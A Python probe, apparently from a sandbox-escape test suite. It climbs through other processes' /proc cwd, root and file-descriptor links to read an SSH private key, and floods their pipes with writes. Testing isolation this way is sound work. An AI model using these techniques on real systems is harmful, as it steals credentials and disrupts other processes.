from attack import *

# In the control the runner stands for the process that builds the sandbox.
pids = [int(lures["runnerPid"])] if bounded else [pid for pid in all_pids() if pid != os.getpid()]


def doors():
    for pid in pids:
        for name in ("cwd", "root"):
            yield f"/proc/{pid}/{name}"
        try:
            numbers_open = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for number in numbers_open:
            yield f"/proc/{pid}/fd/{number}"


def climb():
    for door in doors():
        for steps in ("", "/..", "/../..", "/../../.."):
            try:
                return read(f"{door}{steps}{lures['sshKey']}")
            except OSError:
                pass
    return None


def write():
    """Floods whatever pipe or socket of another process can be opened; the runner has to bear it."""
    flooded = []
    for door in doors():
        try:
            target = os.readlink(door)
            if not target.startswith("pipe:"):
                continue
            opened = os.open(door, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        flooded.append(target)
        if bounded:
            continue
        end = time.monotonic() + 1
        while time.monotonic() < end:
            try:
                os.write(opened, b"x" * 65536)
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                break
    # A pipe to the runner that the sandbox's own shell has is no way out: what it bears is seen outside.
    return flooded if bounded else None


attempt("climb", climb)
attempt("descriptor-to-write", write)
